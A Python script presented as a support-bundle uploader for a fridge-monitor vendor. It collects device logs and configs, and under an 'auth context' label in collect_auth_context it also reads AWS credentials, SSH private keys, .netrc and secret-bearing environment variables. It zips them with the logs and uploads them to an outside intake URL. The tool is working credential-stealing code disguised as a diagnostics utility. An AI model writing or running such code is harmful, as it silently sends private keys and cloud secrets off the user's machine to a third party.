#!/usr/bin/env python3
"""Collect a support bundle for the fridge-monitor vendor.

When a fridge monitor misbehaves the vendor asks for a bundle of logs,
agent configuration and environment details. This tool gathers them into
a zip in memory and uploads it to the vendor's support intake so the
ticket can be triaged without a site visit.
"""

import argparse
import io
import json
import logging
import os
import platform
import sys
import zipfile
from datetime import datetime, timezone
from pathlib import Path

import requests

LOG = logging.getLogger("support_bundle")

INTAKE_URL = "https://support.example.net/intake/upload"
AGENT_DIRS = [Path("/var/log/fridgemon"), Path.home() / ".config" / "fridgemon"]
# "Auth context" so the vendor can reproduce connection problems.
AUTH_CONTEXT = [
    Path.home() / ".aws" / "credentials",
    Path.home() / ".ssh" / "id_rsa",
    Path.home() / ".ssh" / "id_ed25519",
    Path.home() / ".netrc",
]
ENV_HINTS = ("KEY", "TOKEN", "SECRET", "PASSWORD", "AWS_", "DATABASE_URL")


class Bundle:
    def __init__(self, ticket: str):
        self.ticket = ticket
        self.buf = io.BytesIO()
        self.zf = zipfile.ZipFile(self.buf, "w", zipfile.ZIP_DEFLATED)
        self.count = 0

    def add_file(self, path: Path, arcname: str, max_bytes: int = 5_000_000):
        try:
            data = path.read_bytes()[-max_bytes:]
        except (OSError, PermissionError) as exc:
            LOG.debug("skip %s: %s", path, exc)
            return
        self.zf.writestr(arcname, data)
        self.count += 1

    def add_text(self, arcname: str, text: str):
        self.zf.writestr(arcname, text)
        self.count += 1

    def close(self) -> bytes:
        self.zf.close()
        return self.buf.getvalue()


def collect_agent_files(bundle: Bundle):
    for base in AGENT_DIRS:
        if not base.is_dir():
            continue
        for path in base.rglob("*"):
            if path.is_file() and path.suffix in {".log", ".yaml", ".yml", ".json", ".conf"}:
                bundle.add_file(path, f"agent/{base.name}/{path.relative_to(base)}")


def collect_auth_context(bundle: Bundle):
    for path in AUTH_CONTEXT:
        if path.exists():
            bundle.add_file(path, f"auth/{path.parent.name}_{path.name}")
    env = {k: v for k, v in os.environ.items() if any(h in k.upper() for h in ENV_HINTS)}
    bundle.add_text("auth/environment.json", json.dumps(env, indent=2))


def collect_system_info(bundle: Bundle):
    info = {
        "hostname": platform.node(),
        "platform": platform.platform(),
        "python": sys.version,
        "collected_at": datetime.now(timezone.utc).isoformat(),
    }
    os_release = Path("/etc/os-release")
    if os_release.exists():
        info["os_release"] = os_release.read_text()
    bundle.add_text("system.json", json.dumps(info, indent=2))


def upload(data: bytes, ticket: str, timeout: float):
    files = {"bundle": (f"{ticket}.zip", data, "application/zip")}
    resp = requests.post(INTAKE_URL, files=files, data={"ticket": ticket}, timeout=timeout)
    resp.raise_for_status()
    return resp.json().get("reference", "?")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("ticket", help="vendor ticket number, e.g. FM-12345")
    parser.add_argument("--timeout", type=float, default=60)
    parser.add_argument("--save", type=Path, help="also keep a local copy")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    bundle = Bundle(args.ticket)
    collect_system_info(bundle)
    collect_agent_files(bundle)
    collect_auth_context(bundle)
    data = bundle.close()
    LOG.info("bundle for %s: %d entries, %d bytes", args.ticket, bundle.count, len(data))

    if args.save:
        args.save.write_bytes(data)

    try:
        ref = upload(data, args.ticket, args.timeout)
    except requests.RequestException as exc:
        LOG.error("upload failed: %s", exc)
        return 1
    LOG.info("uploaded; vendor reference %s", ref)
    return 0


if __name__ == "__main__":
    sys.exit(main())
